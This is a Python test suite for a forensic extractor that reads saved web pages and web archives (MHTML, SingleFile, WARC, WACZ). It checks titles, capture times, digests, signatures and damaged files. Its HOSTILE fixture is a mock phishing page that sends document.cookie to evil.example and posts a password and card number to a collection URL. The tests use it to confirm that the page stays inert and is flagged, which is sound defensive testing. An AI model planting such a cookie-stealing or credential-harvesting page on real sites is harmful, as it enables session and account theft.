"""Saved web pages (issue 15): MHTML, SingleFile/saved HTML, WARC/ARC and WACZ.

Golden values were read by hand from the corpus files (their headers, comments, pages.jsonl
and ``<title>`` elements), not taken from this extractor's output.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest
from conftest import corpus_or_skip
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from evidence_kit.extractors import extract
from evidence_kit.extractors.interface import ExtractContext, Extraction
from evidence_kit.extractors.web import EXTRACTOR
from evidence_kit.extractors.web.common import parse_claimed


def _run(path: Path, name: str | None = None) -> Extraction:
    ctx = ExtractContext(scratch_dir=path.parent / "scratch", original_name=name or path.name)
    result = EXTRACTOR.extract(path, ctx)
    json.dumps(result.to_dict())  # always JSON-able
    return result


def _web(name: str) -> Path:
    return corpus_or_skip() / "web" / name


def _main(result: Extraction) -> dict[str, Any]:
    pages = result.metadata["pages"]
    assert pages, result.errors
    page: dict[str, Any] = pages[0]
    return page


# --- golden values from the corpus ------------------------------------------------------------

GOLDEN = [
    # file, format, url, title, claimed capture time (UTC)
    (
        "mhtml2html__iframes.mhtml",
        "mhtml",
        "https://www.tutorialspoint.com/html/html_iframes.htm",
        "HTML - Iframes - Tutorialspoint",
        "2020-03-03T11:49:41Z",
    ),
    (
        "mhtml2html__portfolio.mhtml",
        "mhtml",
        "http://msindwan.bitbucket.org/",
        "Max Sindwani",
        "2016-09-05T22:30:04Z",
    ),
    (
        # no separator lines: the page part is read on its own; no <title>: Subject is used
        "mhtml2html__missing_boundary.mhtml",
        "mhtml",
        "http://msindwan.bitbucket.org/",
        "Max Sindwani",
        "2016-09-05T22:30:04Z",
    ),
    (
        "zotero-reader__demo.html",
        "singlefile-html",
        "https://www.zotero.org/support/pdf_reader",
        "pdf reader [Zotero Documentation]",
        "2022-12-20T09:17:50Z",  # "Tue Dec 20 2022 11:17:50 GMT+0200"
    ),
    (
        "readability-mathjax__source.html",
        "saved-html",
        "https://mathjax.github.io/MathJax-demos-web/mml-chtml.html",
        "MathJax v3 with MathML input and HTML output",
        None,
    ),
    (
        "readability-wikipedia-4__source.html",
        "saved-html",
        "https://en.wikipedia.org/wiki/List_of_films_featuring_time_loops",
        "List of films featuring time loops - Wikipedia",
        None,
    ),
    (
        "warcio__example.warc",
        "warc",
        "http://example.com/",
        "Example Domain",
        "2017-03-06T04:02:06Z",
    ),
    (
        "warcio__example.warc.gz",
        "warc",
        "http://example.com/",
        "Example Domain",
        "2017-03-06T04:02:06Z",
    ),
    (
        "warcio__example-iana.org-chunked.warc",
        "warc",
        "http://www.iana.org/",
        "Internet Assigned Numbers Authority",
        "2017-03-06T16:54:09Z",
    ),
    (
        "pywacz__valid_example_1.wacz",
        "wacz",
        "http://www.example.com/",
        "Example Domain",
        "2020-10-07T21:22:36Z",
    ),
    (
        # chunked and gzip-encoded page; an SVG <title>nav-logo</title> follows in the body
        "jswacz__lil-projects.warc.gz",
        "warc",
        "https://lil.law.harvard.edu/projects/",
        "Projects | Library Innovation Lab",
        "2023-02-22T16:19:54Z",
    ),
    (
        "replayweb__example.wacz",
        "wacz",
        "https://webrecorder.net/",
        "Webrecorder",
        "2022-09-16T19:15:07Z",
    ),
]


@pytest.mark.parametrize(("name", "fmt", "url", "title", "at"), GOLDEN)
def test_golden_url_title_and_claimed_time(
    name: str, fmt: str, url: str, title: str, at: str | None
) -> None:
    result = _run(_web(name))
    assert result.metadata["format"] == fmt
    page = _main(result)
    assert page["url"] == url
    assert page["title"] == title
    claimed = page["claimed_capture"]
    if at is None:
        assert claimed is None
    else:
        assert claimed["at"] == at
        assert any(t.at == at and "as the file states" in t.label for t in result.times)


def test_mhtml_headers_are_recorded_as_stated() -> None:
    md = _run(_web("mhtml2html__iframes.mhtml")).metadata
    assert md["mhtml"]["saved_by"] == "<Saved by Blink>"
    assert md["mhtml"]["snapshot_content_location"] == (
        "https://www.tutorialspoint.com/html/html_iframes.htm"
    )
    assert md["resources_found"] > 5
    assert any(p["role"] == "frame" for p in md["pages"])


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("mhtml2html__missing_boundary.mhtml", "separator"),
        ("mhtml2html__unexpected_eof.mhtml", "cut short"),
        ("mhtml2html__portfolio.mhtml", "header line"),
        ("pywacz__invalid_example_1.wacz", "not present"),
        ("warcio__example-trunc.warc", "does not end where its stated length says"),
        ("warcio__example-bad-non-chunked.warc.gz", "compressed as one block"),
    ],
)
def test_damaged_captures_say_what_could_not_be_read(name: str, words: str) -> None:
    result = _run(_web(name))
    assert any(words in e for e in result.errors), result.errors
    assert not any(e.startswith("digest mismatch") for e in result.errors), result.errors


def test_every_corpus_web_file_reads_without_an_unexpected_failure() -> None:
    for path in sorted((corpus_or_skip() / "web").iterdir()):
        result = _run(path)
        assert not any("could not be read completely" in e for e in result.errors), (path, result)
        assert result.metadata.get("format"), path


def test_archive_without_html_lists_its_responses() -> None:
    result = _run(_web("warcio__post-test.warc.gz"))
    pages = result.metadata["pages"]
    assert [p["url"] for p in pages] == [
        "http://httpbin.org/post",
        "http://httpbin.org/post",
        "http://httpbin.org/post?foo=bar",
    ]
    assert pages[0]["role"] == "resource"
    assert pages[0]["claimed_capture"]["at"] == "2014-06-10T00:08:59Z"


def test_arc_with_unreadable_lengths_says_so() -> None:
    result = _run(_web("warcio__bad.arc"))
    assert any("'abc' is not a valid length" in e for e in result.errors), result.errors


def test_warc_metadata_warcinfo_status_and_request_link() -> None:
    md = _run(_web("warcio__example.warc")).metadata
    warc = md["warc"]
    assert warc["warcinfo"][0]["software"] == "Webrecorder Platform v3.7"
    response = next(r for r in warc["records"] if r["type"] == "response")
    assert response["http_status"] == 200
    assert response["payload_digest"]["check"] == "matches"
    assert response["block_digest"]["check"] == "matches"
    request = next(r for r in warc["records"] if r["type"] == "request")
    assert request["concurrent_to"] == response["record_id"]
    revisit = next(r for r in warc["records"] if r["type"] == "revisit")
    assert "not checked" in revisit["payload_digest"]["check"]


def test_a_gzip_archive_named_warc_is_read_and_said_to_be_compressed() -> None:
    md = _run(_web("pywacz__example-collection.warc")).metadata
    assert md["compressed"] == "gzip"
    assert md["pages"][0]["url"] == "http://www.example.com/"


def test_chunked_corpus_capture_is_not_flagged() -> None:
    result = _run(_web("warcio__example-iana.org-chunked.warc"))
    assert result.metadata["warc"]["digest_mismatches"] == 0
    assert not any("mismatch" in e for e in result.errors)


def test_altered_warc_payload_is_flagged_with_the_digest_named(tmp_path: Path) -> None:
    data = bytearray(_web("warcio__example.warc").read_bytes())
    start = data.index(b"HTTP/1.1 200 OK")  # the first response (its body is gzip-encoded)
    body = data.index(b"\r\n\r\n", start) + 4
    data[body + 100] ^= 0x01  # one bit of the captured body, length unchanged
    altered = tmp_path / "altered.warc"
    altered.write_bytes(bytes(data))
    result = _run(altered)
    assert result.metadata["warc"]["digest_mismatches"] == 1
    message = next(e for e in result.errors if e.startswith("digest mismatch"))
    assert "http://example.com/" in message
    assert "sha1:G7HRM7BGOKSKMSXZAHMUQTTV53QOFSMK" in message  # the payload digest as recorded
    response = next(r for r in result.metadata["warc"]["records"] if r["type"] == "response")
    assert response["payload_digest"]["check"] == "MISMATCH"


def test_wacz_digests_rechecked_and_signature_reported_as_stated() -> None:
    md = _run(_web("pywacz__valid_signed_example_1.wacz")).metadata
    wacz = md["wacz"]
    assert wacz["mismatches"] == 0
    assert all(r["check"] == "matches" for r in wacz["resources"])
    signed = wacz["digest_file"]["signed"]
    assert wacz["digest_file"]["check"] == "matches"
    assert signed["domain"] == "btrix-sign-test.webrecorder.net"
    assert signed["created"] == "2022-01-18T19:00:12Z"
    assert signed["signature_matches_key"] is True
    assert signed["chain_trust_checked"] is False
    # the "invalid" fixture's signature is sound, but its chain is Let's Encrypt's staging one
    bad = _run(_web("pywacz__invalid_signed_example_1.wacz")).metadata["wacz"]
    chain = bad["digest_file"]["signed"]["certificate_chain"]
    assert any("(STAGING)" in c["issuer"] for c in chain)


@pytest.mark.parametrize("name", ["replayweb__example.wacz", "replayweb__iframetest.wacz"])
def test_anonymous_wacz_signature_checks_with_its_key(name: str) -> None:
    signed = _run(_web(name)).metadata["wacz"]["digest_file"]["signed"]
    assert signed["has_public_key"] is True
    assert signed["signature_matches_key"] is True


def test_altered_signed_hash_fails_the_signature(tmp_path: Path) -> None:
    src = _web("replayweb__iframetest.wacz")
    out = tmp_path / "resigned.wacz"
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename == "datapackage-digest.json":
                doc = json.loads(data)
                doc["signedData"]["hash"] = "sha256:" + "0" * 64
                data = json.dumps(doc).encode()
            zout.writestr(info, data)
    result = _run(out)
    assert result.metadata["wacz"]["digest_file"]["signed"]["signature_matches_key"] is False
    assert any("signature does not match" in e for e in result.errors)


# --- synthetic captures -----------------------------------------------------------------------


def _b32(data: bytes) -> str:
    return "sha1:" + base64.b32encode(hashlib.sha1(data).digest()).decode()


def _warc_record(headers: dict[str, str], block: bytes) -> bytes:
    lines = ["WARC/1.0", *(f"{k}: {v}" for k, v in headers.items())]
    lines += [f"Content-Length: {len(block)}", "", ""]
    return "\r\n".join(lines).encode() + block + b"\r\n\r\n"


def _chunked_response(payload_digest_over: str) -> bytes:
    body = b"<html><title>Chunky</title><body>hello</body></html>"
    chunked = b"%x\r\n" % 10 + body[:10] + b"\r\n" + b"%x\r\n" % (len(body) - 10)
    chunked += body[10:] + b"\r\n0\r\n\r\n"
    http = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\n"
    block = http + chunked
    payload = body if payload_digest_over == "decoded" else b"something else"
    return _warc_record(
        {
            "WARC-Type": "response",
            "WARC-Target-URI": "http://shop.example/",
            "WARC-Date": "2026-11-20T09:00:00Z",
            "WARC-Record-ID": "<urn:uuid:1>",
            "Content-Type": "application/http; msgtype=response",
            "WARC-Block-Digest": _b32(block),
            "WARC-Payload-Digest": _b32(payload),
        },
        block,
    )


def test_chunked_payload_digest_over_the_decoded_body_is_a_known_difference(
    tmp_path: Path,
) -> None:
    path = tmp_path / "chunked.warc"
    path.write_bytes(_chunked_response("decoded"))
    result = _run(path)
    record = result.metadata["warc"]["records"][0]
    assert record["payload_digest"]["check"] == "matches after removing chunked encoding"
    assert "not a change" in record["payload_digest"]["note"]
    assert result.metadata["warc"]["digest_mismatches"] == 0
    assert not any("mismatch" in e for e in result.errors)
    assert _main(result)["title"] == "Chunky"


def test_chunked_payload_that_matches_nothing_is_still_flagged(tmp_path: Path) -> None:
    path = tmp_path / "chunked-bad.warc.gz"
    path.write_bytes(gzip.compress(_chunked_response("other")))
    result = _run(path)
    assert result.metadata["warc"]["digest_mismatches"] == 1
    assert any(e.startswith("digest mismatch for http://shop.example/") for e in result.errors)


HOSTILE = (
    "<!DOCTYPE html><html><head><title>Your bank &amp; you</title>"
    '<script>document.location="http://evil.example/steal?c="+document.cookie</script>'
    '<script src="http://evil.example/x.js"></script>'
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">'
    '<link rel="stylesheet" href="http://evil.example/s.css"></head>'
    '<body onload="alert(1)"><iframe src="http://evil.example/frame"></iframe>'
    '<img src="http://evil.example/pixel.png" onerror="alert(2)">'
    "<p>Log in to keep your account. Call +44 20 7946 0018.</p>"
    '<form action="https://evil.example/collect" method="post">'
    '<input name="user"><input type="password" name="pw">'
    '<input name="cardnumber" autocomplete="cc-number"></form>'
    '<a href="https://evil.example/next">next</a></body></html>'
)


def _singlefile(html: str) -> str:
    comment = (
        "<!--\n Page saved with SingleFile \n url: https://bank.example/login \n"
        " saved date: Fri Nov 20 2026 10:14:00 GMT+0100 (Central European Standard Time)\n-->"
    )
    return html.replace("<html>", "<html>" + comment, 1)


def _mhtml(html: str) -> bytes:
    qp = html.encode()
    return (
        b"From: <Saved by Blink>\r\nSnapshot-Content-Location: https://bank.example/login\r\n"
        b"Subject: Your bank & you\r\nDate: Fri, 20 Nov 2026 09:14:00 -0000\r\n"
        b'MIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n\ttype="text/html";\r\n'
        b'\tboundary="----B"\r\n\r\n\r\n------B\r\nContent-Type: text/html\r\n'
        b"Content-Transfer-Encoding: 8bit\r\nContent-Location: https://bank.example/login\r\n\r\n"
        + qp
        + b"\r\n------B--\r\n"
    )


@pytest.mark.parametrize("kind", ["singlefile", "mhtml"])
def test_hostile_page_stays_data(tmp_path: Path, kind: str) -> None:
    if kind == "mhtml":
        path = tmp_path / "bank.mhtml"
        path.write_bytes(_mhtml(HOSTILE))
    else:
        path = tmp_path / "bank.html"
        path.write_text(_singlefile(HOSTILE), encoding="utf-8")
    result = _run(path)
    page = _main(result)
    assert page["url"] == "https://bank.example/login"
    assert page["title"] == "Your bank & you"
    assert page["claimed_capture"]["at"] == "2026-11-20T09:14:00Z"
    assert "document.cookie" not in page["text"]  # script bodies are not page text
    assert "Log in to keep your account." in page["text"]
    active = page["active_content"]
    assert active["scripts"] == 2
    assert active["iframes"] == 1
    assert active["remote_resources"] >= 4
    assert active["meta_refresh"] == "0;url=http://evil.example/"
    form = page["forms"][0]
    assert form["action"] == "https://evil.example/collect"
    assert form["asks_for"] == ["a password", "card details"]
    assert any("asking for a password and card details" in w for w in result.metadata["warnings"])
    assert "https://evil.example/next" in page["links_out"]
    kinds = {(i.kind, i.value) for i in result.identifiers}
    assert ("url", "https://evil.example/next") in kinds
    assert any(k == "phone" for k, _ in kinds)


def test_plain_html_without_saver_comment_uses_canonical_link(tmp_path: Path) -> None:
    path = tmp_path / "p.html"
    path.write_text(
        '<html><head><link rel="canonical" href="https://shop.example/item/1">'
        "<title>Cheap</title></head><body>x</body></html>"
    )
    result = _run(path)
    assert result.metadata["format"] == "html"
    assert _main(result)["url"] == "https://shop.example/item/1"
    assert _main(result)["claimed_capture"] is None


def test_wacz_with_altered_member_is_flagged(tmp_path: Path) -> None:
    src = _web("pywacz__valid_example_1.wacz")
    out = tmp_path / "altered.wacz"
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename == "pages/pages.jsonl":
                data = data.replace(b"Example Domain", b"Exbmple Domain")
            zout.writestr(info, data)
    result = _run(out)
    assert result.metadata["wacz"]["mismatches"] == 1
    assert any("pages/pages.jsonl does not match" in e for e in result.errors)


def test_claimed_time_forms() -> None:
    assert parse_claimed("2017-03-06T04:02:06Z") is not None
    assert parse_claimed("20140216050221") is not None
    assert parse_claimed("Tue, 3 Mar 2020 11:49:41 -0000") is not None
    assert parse_claimed("2020-01-01T00:00:00") is None  # no zone: not guessed
    assert parse_claimed("not a time") is None


# --- arbitrary bytes never raise --------------------------------------------------------------

_PREFIXES = [
    b"",
    b"WARC/1.0\r\n",
    b"\x1f\x8b\x08\x00",
    b"PK\x03\x04",
    b"From: <Saved by Blink>\r\nSnapshot-Content-Location: http://x/\r\n",
    b"<!-- Page saved with SingleFile \n url: http://x/ \n saved date: ",
]
_NAMES = ["a.mhtml", "a.warc", "a.warc.gz", "a.wacz", "a.html", "a"]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    prefix=st.sampled_from(_PREFIXES),
    body=st.binary(max_size=2000),
    name=st.sampled_from(_NAMES),
)
def test_arbitrary_bytes_never_raise(prefix: bytes, body: bytes, name: str) -> None:
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / name
        path.write_bytes(prefix + body)
        result = EXTRACTOR.extract(path, ExtractContext(Path(tmp) / "s", name))
        json.dumps(result.to_dict())


@settings(max_examples=40, deadline=None)
@given(records=st.lists(st.binary(max_size=300), max_size=4))
def test_arbitrary_warc_records_never_raise(records: list[bytes]) -> None:
    import tempfile

    blob = b"".join(
        _warc_record({"WARC-Type": "response", "WARC-Target-URI": "http://x/"}, r) for r in records
    )
    with tempfile.TemporaryDirectory() as tmp:
        for name, data in (("r.warc", blob), ("r.warc.gz", gzip.compress(blob))):
            path = Path(tmp) / name
            path.write_bytes(data)
            result = extract(path, "application/warc", ExtractContext(Path(tmp) / "s", name))
            json.dumps(result.to_dict())


def test_a_zip_that_is_not_a_wacz(tmp_path: Path) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("hello.txt", "hi")
    path = tmp_path / "x.wacz"
    path.write_bytes(buf.getvalue())
    result = _run(path)
    assert any("no datapackage.json" in e for e in result.errors)


def test_registry_chooses_web_by_content_but_leaves_html_looking_email_alone() -> None:
    from evidence_kit.extractors import choose

    def name(mime: str, suffix: str, head: bytes) -> str | None:
        entry = choose(mime, suffix, lambda: head)
        return None if entry is None else entry.name

    assert name("text/html", ".eml", b"From someone\nReceived: x\n\n<html>") == "email"
    assert name("text/html", ".php", b"<!DOCTYPE html><html>") == "web"
    assert name("text/html", "", b"\n<html><body>") == "web"
    assert name("message/rfc822", ".eml", b"From: a\r\nSnapshot-Content-Location: x\r\n") == "web"
    assert name("message/rfc822", ".eml", b"From: a\r\nSubject: b\r\n") == "email"
    assert name("application/gzip", ".gz", gzip.compress(b"WARC/1.0\r\n")) == "web"
    assert name("application/gzip", ".gz", gzip.compress(b"hello")) is None
    assert name("application/zip", ".wacz", b"PK\x03\x04") == "web"
    telegram = (
        b"<!DOCTYPE html>\n<html>\n<head>\n<title>Exported Data</title>\n</head>"
        b'<div class="page_wrap">'
    )
    assert name("text/html", ".html", telegram) == "chat"  # a conversation, not a web page
    assert name("text/html", ".html", b"<!DOCTYPE html><html><title>Shop</title>") == "web"


def test_every_corpus_web_file_is_chosen_as_web() -> None:
    from evidence_kit.extractors import choose
    from evidence_kit.ingest.add import sniff_mime

    for path in sorted((corpus_or_skip() / "web").iterdir()):
        head = path.read_bytes()[:8192]
        entry = choose(sniff_mime(head), path.suffix.lower(), lambda h=head: h)
        assert entry is not None and entry.name == "web", path


def test_huge_archives_are_bounded_and_say_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from evidence_kit.extractors.web import warc

    block = b"HTTP/1.1 200 OK\r\nContent-Type: image/png\r\n\r\n" + b"\x89PNG" * 64
    one = _warc_record(
        {
            "WARC-Type": "response",
            "WARC-Target-URI": "http://x.example/i.png",
            "WARC-Date": "2026-11-20T09:00:00Z",
            "Content-Type": "application/http; msgtype=response",
            "WARC-Block-Digest": _b32(block),
        },
        block,
    )
    path = tmp_path / "many.warc.gz"
    path.write_bytes(b"".join(gzip.compress(one) for _ in range(3000)))
    result = _run(path)
    w = result.metadata["warc"]
    assert w["records_read"] == 3000
    assert len(w["records"]) == 1000 and w["records_truncated"] is True
    assert w["digest_mismatches"] == 0 and w["digests_checked"] == 3000
    assert any("the first 1000 are listed" in e for e in result.errors)
    assert len(result.metadata["pages"]) == 20  # no HTML: its first responses, as resources

    monkeypatch.setattr(warc, "MAX_RECORDS_READ", 10)
    result = _run(path)
    assert result.metadata["warc"]["records_read"] == 10
    assert any("only the first 10 records were read" in e for e in result.errors)


@pytest.mark.parametrize(
    "markup",
    ["<!" * 1_000_000, "<!--a>" * 150_000, "<![a>" * 150_000, "<" * 1_000_000, "<a" * 500_000],
    ids=["bang", "comment-no-end", "section-no-end", "lt", "open-tags"],
)
def test_pathological_markup_is_read_in_bounded_time(markup: str) -> None:
    import time

    from evidence_kit.extractors.web.html import read_page

    start = time.monotonic()
    read_page(markup)
    # html.parser rescans from every unfinished construct: quadratic, minutes for these
    # without the defusing pass; linear (well under a second here) with it.
    assert time.monotonic() - start < 5


def _describe(result: Extraction) -> Any:
    from evidence_kit.extractors.interface import RecordView
    from evidence_kit.extractors.registry import by_name

    entry = by_name("web")
    assert entry is not None and entry.describe is not None
    view = RecordView("E0001", "x", "text/html", result.to_dict(), timezone="Europe/London")
    return entry.describe(view)


def test_show_summary_and_findings_in_plain_words(tmp_path: Path) -> None:
    path = tmp_path / "bank.mhtml"
    path.write_bytes(_mhtml(HOSTILE))
    d = _describe(_run(path))
    assert d.kind == "Saved web page (MHTML)"
    assert "address 'https://bank.example/login'" in d.summary
    assert "captured 20 Nov 2026 09:14 GMT (09:14 UTC) (as the file states)" in d.summary
    codes = {f.code: f for f in d.findings}
    assert codes["web.form"].severity == "warning"
    assert codes["web.form"].text.startswith("The page has a form asking for a password")


def test_show_names_an_altered_archive(tmp_path: Path) -> None:
    data = bytearray(_web("warcio__example.warc").read_bytes())
    body = data.index(b"\r\n\r\n", data.index(b"HTTP/1.1 200 OK")) + 4
    data[body + 100] ^= 0x01
    path = tmp_path / "altered.warc"
    path.write_bytes(bytes(data))
    codes = {f.code: f.severity for f in _describe(_run(path)).findings}
    assert codes["web.digest-mismatch"] == "warning"


def test_a_cut_short_record_is_told_in_plain_words() -> None:
    """The damaged record's message says the fingerprints could not be checked, without the
    digest jargon; the digests themselves stay in the record for the officer."""
    result = _run(_web("warcio__example-trunc.warc"))
    cut = [e for e in result.errors if "does not end where its stated length says" in e]
    assert cut and "fingerprints recorded when it was saved cannot be checked" in cut[0]
    assert "digest" not in cut[0]
    records = result.metadata["warc"]["records"]
    damaged = [r for r in records if r.get("damaged")]
    assert damaged and damaged[0]["unchecked_digests"]
